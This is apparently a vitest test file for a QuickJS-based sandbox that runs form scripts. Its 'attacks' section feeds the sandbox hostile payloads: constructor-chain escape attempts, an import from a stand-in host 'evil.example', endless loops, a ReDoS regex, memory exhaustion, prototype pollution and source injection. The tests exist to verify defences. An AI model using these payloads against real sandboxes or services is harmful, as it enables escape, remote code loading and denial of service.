import variant from '@jitl/quickjs-wasmfile-release-sync';
import { newQuickJSWASMModuleFromVariant } from 'quickjs-emscripten-core';
import { describe, expect, test } from 'vitest';
import type { FormModel, FromSandbox, Run } from './protocol.ts';
import { makeSandbox } from './sandbox.ts';

const model: FormModel = {
  ...{ kind: 'form', isUpdate: true, tableName: 'orders', readOnly: ['code'], types: { title: 'text' } },
  values: { title: 'a', amount: 2, code: 'N1' },
  subs: { goods: [{ id: 'r1', price: 3 }] },
  subFields: { goods: { price: true, total: false } },
  shown: { title: true, amount: true },
};

async function running(source: string) {
  const sandbox = makeSandbox(await newQuickJSWASMModuleFromVariant(variant));
  const started = sandbox.start(source);
  let count = 0;
  const run = (given: Record<string, unknown>) => {
    count += 1;
    return told(sandbox.run(count, JSON.stringify({ id: count, model, ...given } as unknown as Run)));
  };
  return { started, run, method: (method: string, row?: unknown) => run({ way: 'method', method, row }), sandbox };
}

/** What was said, read; states of fields, which come each time, left out. */
const told = (said: FromSandbox) => ({
  effects: said.effects.map((text) => JSON.parse(text)).filter(({ op }) => op !== 'shown'),
  requests: said.requests.map((text) => JSON.parse(text)),
  settled: said.settled.map((text) => JSON.parse(text)),
  fault: said.fault,
  logs: said.logs,
});

/** What a script's `loaded` comes to that shows one value. */
async function shown(expression: string) {
  const { method } = await running(`loaded() { $message.info(String(${expression})); }`);
  const { effects, settled, fault } = method('loaded');
  return effects[0]?.text ?? settled[0]?.fault ?? fault;
}

describe('the interface', () => {
  test('reads and sets values, and says so in order', async () => {
    const { started, method } = await running(`
      loaded() { that.setFieldsValue({ title: that.getFieldsValue().amount + 1 }); this.sh.amount = false; },
      pay(row) { that.addSubRows('goods', [{ price: row.price }]); }`);
    expect(started.methods).toEqual(['loaded', 'pay']);
    expect(method('loaded')).toMatchObject({ effects: [{ op: 'set', values: { title: 3 } }], settled: [{ id: 1 }] });
    expect(method('pay', { price: 7 }).effects).toEqual([{ op: 'addRows', sub: 'goods', rows: [{ price: 7 }] }]);
  });

  test('tells a handler what changed, with that or without', async () => {
    const { run } = await running(`
      onlChange() { return {
        title(that, event) { that.setFieldsValue({ amount: event.value + event.column.key }); },
        amount() { that.triggleChangeValue('title', event.value); } } },
      goods_onlChange() { return { price(e) { that.triggleChangeValues({ price: e.value * 2 }, e.row.id, e.target); } } }`);
    expect(run({ way: 'field', name: 'amount' }).effects).toEqual([
      { op: 'set', values: { title: 2 } },
      { op: 'set', values: { amount: '2title' } },
    ]);
    const { settled } = run({ way: 'line', sub: 'goods', row: 'r1', name: 'price' });
    expect(settled[0].fault).toMatchObject({ type: 'unavailable', name: 'price', reason: 'depth' });
  });

  test('waits for promises, and says what they were refused with', async () => {
    const { method } = await running(`
      async beforeSubmit(row) { if (row.amount > 1) throw new Error('金额太大'); },
      other() { return Promise.reject('不行'); },
      broken() { return nothing.at.all; }`);
    expect(method('beforeSubmit', { amount: 2 }).settled).toEqual([
      { id: 1, fault: { type: 'said', text: '金额太大' } },
    ]);
    expect(method('beforeSubmit', { amount: 1 }).settled).toEqual([{ id: 2 }]);
    expect(method('other').settled[0].fault).toEqual({ type: 'said', text: '不行' });
    expect(method('broken').settled[0].fault).toMatchObject({
      type: 'error',
      text: expect.stringContaining('nothing'),
    });
  });

  test('asks for what it is allowed to read, and goes on with the answer', async () => {
    const { method, sandbox } = await running(
      `async loaded() { const { result } = await getAction('/sys/x', { a: 1 }); $message.success(result); }`,
    );
    const { requests, settled } = method('loaded');
    expect(requests).toEqual([{ id: 1, op: 'get', url: '/sys/x', params: { a: 1 } }]);
    expect(settled).toEqual([]);
    const after = told(sandbox.answer(JSON.stringify({ id: 1, result: { result: 'ok' } })));
    expect(after).toMatchObject({ effects: [{ type: 'success', text: 'ok' }], settled: [{ id: 1 }] });
  });

  test('refuses by name what is not there, not seen, or not to be set', async () => {
    const said = async (body: string) => {
      const { method } = await running(`loaded() { ${body} }`);
      return method('loaded').settled[0]?.fault;
    };
    for (const [body, name, reason] of [
      ['that.updateSchema([]);', 'that.updateSchema', 'other'],
      ['window.x;', 'window', 'other'],
      ['fetch("/x");', 'fetch', 'other'],
      ['that.setFieldsValue({ salary: 1 });', 'salary', 'field'],
      ['that.setFieldsValue({ code: 1 });', 'code', 'readOnly'],
      ['that.addSubRows("goods", { total: 1 });', 'goods.total', 'readOnly'],
      ['that.addSubRows("other", {});', 'other', 'sub'],
      ['return postAction("/sys/user/add", {});', 'POST /sys/user/add', 'method'],
      ['that.anything = 1;', 'that.anything', 'other'],
    ])
      expect(await said(body ?? '')).toEqual({ type: 'unavailable', name, reason });
  });
});

describe('attacks', () => {
  test('constructors lead to the sandbox itself and nowhere else', async () => {
    const outside = `(function () { const g = this.constructor.constructor('return this')();
      return ['window', 'document', 'fetch', 'self', 'process', 'require'].map((n) => { try { return g[n] === undefined; } catch (e) { return e.name; } }).join(); }).call(`;
    for (const way of ['{}', 'that.getFieldsValue', 'useMessage', 'getAction', 'that.getFieldsValue()'])
      expect(await shown(`${outside}${way})`)).toBe(Array(6).fill('Unavailable').join());
    expect(await shown('typeof WebAssembly === "undefined"')).toMatchObject({ name: 'WebAssembly' });
    const { method } = await running(`async loaded() { await import('https://evil.example/x.js'); }`);
    expect(method('loaded').settled[0].fault.type).toBe('error');
  });

  test.each([
    ['an endless loop', 'while (true) {}', 'time'],
    ['a loop in a getter', 'that.setFieldsValue({ get title() { for (;;) {} } });', 'time'],
    ['a slow expression', '/(a+)+$/.test("a".repeat(50) + "b");', 'time'],
    ['promises without end', 'const f = () => Promise.resolve().then(f); f();', 'time'],
    ['a loop that catches what stops it', 'for (;;) { try { for (;;) {} } catch {} finally { continue; } }', 'time'],
    ['sorting without end', '[3, 2, 1].sort(() => { for (;;) {} });', 'time'],
  ])('ends %s', async (_, body, type) => {
    const { method } = await running(`loaded() { ${body} }`);
    const started = Date.now();
    expect(method('loaded').fault).toEqual({ type });
    expect(Date.now() - started).toBeLessThan(2500);
  });

  test.each([
    ['memory', 'const all = []; for (;;) all.push(new Array(1e5).fill("x"));', /out of memory|"time"/],
    ['a huge text', 'let s = "ab"; for (;;) s += s;', /string too long/],
    ['recursion', 'const f = () => f(); f();', /stack overflow/],
    ['a deep text of JSON', 'JSON.parse("[".repeat(2e6));', /stack overflow/],
    [
      'a deep object',
      'const o = {}; let c = o; for (let i = 0; i < 1e5; i++) c = c.a = {}; that.setFieldsValue(o);',
      /"stopped"/,
    ],
    ['more than may be said', 'for (let i = 0; i < 1e5; i++) $message.info("x");', /too many: effects/],
    ['a text of megabytes', '$message.info("x".repeat(3e6));', /too many: effects/],
    [
      'a value with a proxy',
      'that.setFieldsValue(new Proxy({}, { ownKeys() { return ["title"]; }, get() { throw 1; } }));',
      /"said","text":"1"/,
    ],
    ['a cycle', 'const o = {}; o.title = o; that.setFieldsValue(o);', /circular reference/],
  ])('bounds %s', async (_, body, reason) => {
    const { method } = await running(`loaded() { ${body} }`);
    const { fault, settled, effects } = method('loaded');
    expect(JSON.stringify(fault ?? settled[0]?.fault)).toMatch(reason);
    expect(effects.length).toBeLessThanOrEqual(1000);
  });

  test('asks twenty questions of many', async () => {
    const { method } = await running('loaded() { for (let i = 0; i < 1e4; i++) getAction("/x"); }');
    expect(method('loaded').requests).toHaveLength(20);
  });

  test('what a script does to prototypes stays in its sandbox', async () => {
    const { method } = await running(`loaded() {
      Object.prototype.polluted = 1; Array.prototype.map = () => 'x'; JSON.stringify = () => '{}'; Promise.prototype.then = null;
      that.setFieldsValue(JSON.parse('{"title":"x","__proto__":{"evil":1}}')); }`);
    const { effects, settled } = method('loaded');
    expect(({} as { polluted?: unknown }).polluted).toBeUndefined();
    expect(({} as { evil?: unknown }).evil).toBeUndefined();
    expect(settled.length + effects.length).toBeGreaterThan(0);
  });

  test('a source that is no script stops at the start', async () => {
    expect((await running('loaded() {')).started.fault).toMatchObject({ type: 'error' });
    expect((await running('a() {} }); while (true) {} ({ b() {}')).started.fault).toEqual({ type: 'time' });
  });
});
